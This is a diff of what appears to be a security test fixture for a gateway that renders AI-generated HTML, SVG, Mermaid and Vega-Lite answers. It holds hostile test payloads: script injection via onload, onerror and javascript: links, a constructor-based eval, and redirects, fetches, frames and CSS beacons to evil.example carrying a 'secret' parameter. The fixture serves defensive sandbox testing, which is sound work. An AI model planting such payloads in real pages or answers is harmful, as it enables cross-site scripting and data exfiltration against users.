@@ -108,10 +108,10 @@ parent.postMessage({ n: 1, svg: "<svg onload=alert(1)></svg>", ready: true, widt
 Promise.all(wait).then(() => { document.body.textContent = "GOT[" + got.join("; ") + "]"; });
 `;
 
-/** hostile answers by name; ORIGIN is the gateway's. */
-export const hostileAnswers = (origin) => ({
+/** hostile answers by name, by the addresses of the gateway and of another server. */
+export const hostileAnswers = (origin, elsewhere) => ({
   spy: "```html title=\"Spy\"\n<!doctype html><title>Spy</title><body><script>const ORIGIN = " + JSON.stringify(origin) + ";" + spy + "</script>\n```",
-  leave: "```html title=\"Leave\"\n<!doctype html><body><p>before</p><script>setTimeout(() => { location = 'https://evil.example/?secret=1'; setTimeout(() => { location = " + JSON.stringify(origin + "/") + "; }, 300); }, 300)</script>\n```",
+  leave: "```html title=\"Leave\"\n<!doctype html><body><p>before</p><script>setTimeout(() => { location = '" + elsewhere + "/?secret=1'; setTimeout(() => { location = " + JSON.stringify(origin + "/") + "; }, 300); }, 300)</script>\n```",
   svg: "```svg title=\"Bad\"\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"parent.document.title='out'\"><script>parent.alert(1);fetch('https://evil.example/')</script><image href=\"https://evil.example/i.png\" width=\"9\" height=\"9\"/><foreignObject width=\"99\" height=\"99\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/frame\"></iframe></foreignObject></svg>\n```",
   mermaid: "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true, \"themeCSS\": \"* { background: url(https://evil.example/c) }\"}}%%\nflowchart LR\n  A[\"<img src=x onerror=alert(1)><script>alert(2)</script>\"] --> B\n  click A href \"javascript:alert(3)\"\n  click B call alert(4)\n  style A fill:url(https://evil.example/f)\n```",
   chart: "```vega-lite\n{\"data\":{\"url\":\"https://evil.example/data.json\"},\"mark\":\"point\",\"encoding\":{}}\n```\n\n```vega-lite\n{\"data\":{\"values\":[{\"a\":1,\"u\":\"https://evil.example/i.png\"}]},\"transform\":[{\"calculate\":\"constructor.constructor('alert(1)')()\",\"as\":\"x\"}],\"mark\":{\"type\":\"image\",\"width\":50,\"height\":50},\"encoding\":{\"url\":{\"field\":\"u\"}}}\n```",
